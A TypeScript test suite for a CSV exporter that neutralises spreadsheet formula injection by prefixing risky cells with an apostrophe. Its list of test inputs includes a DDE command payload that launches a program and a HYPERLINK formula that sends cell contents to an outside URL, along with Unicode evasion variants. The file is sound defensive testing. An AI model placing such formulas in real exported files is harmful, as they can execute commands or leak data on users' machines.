import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { csvOf, harmless } from '../src/csv.ts'

const read = (text: string): string[][] => parse(text, { relax_column_count: false, bom: true })

/** What makes a spreadsheet compute, with what it may skip before. */
const COMPUTED = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '\0=1',
  '\tplain',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u202e=1+1',
  '"=1+1"',
  "'=1+1",
  ' "\' =1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '﹦1',
  '−1',
  '=HYPERLINK("https://example.org?x="&A1,"Click")',
  "=cmd|' /C calc'!A0",
]

const PLAIN = [
  'Go',
  'a=b',
  'C#',
  '1',
  '“-1”',
  '',
  'two\nlines',
  'a,b;"c"',
  'Größe',
  '漢字 🦊',
  '7QK-M2F',
  '’tis',
]

describe('a CSV file', () => {
  test.each(COMPUTED)('has an apostrophe before %j', (text) => {
    expect(harmless(text)).toBe(`'${text}`)
    expect(read(csvOf([[text, 1]]))).toEqual([[`'${text}`, '1']])
  })

  test.each(PLAIN)('leaves %j as it is', (text) => {
    expect(read(csvOf([[text, 1]]))).toEqual([[text, '1']])
  })

  test('keeps numbers numbers, also below zero, and nothing empty', () => {
    expect(
      csvOf([
        ['a', 'b', 'c'],
        [-1.5, null, 0],
      ]),
    ).toBe('"a","b","c"\r\n-1.5,,0\r\n')
  })

  test('begins with a byte order mark where it is asked for', () => {
    expect(csvOf([['ü']], { bom: true })).toBe('\ufeff"ü"\r\n')
  })

  test('reads back as it was, but for the apostrophes, and no cell begins with a sign', () => {
    const text = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 20 }),
      fc.string({
        unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', "'", ',', ';', ' ', 'a'),
        maxLength: 8,
      }),
    )
    fc.assert(
      fc.property(fc.array(fc.tuple(text, text), { minLength: 1, maxLength: 5 }), (rows) => {
        const back = read(csvOf([['one', 'two'], ...rows]))
        expect(back.slice(1)).toEqual(rows.map((row) => row.map(harmless)))
        for (const cell of back.flat()) {
          expect(cell).not.toMatch(/^[\s"\p{Cf}]*[=+\-@]/u)
          expect(cell).not.toMatch(/^[\t\r\n\0]/)
        }
      }),
    )
  })
})
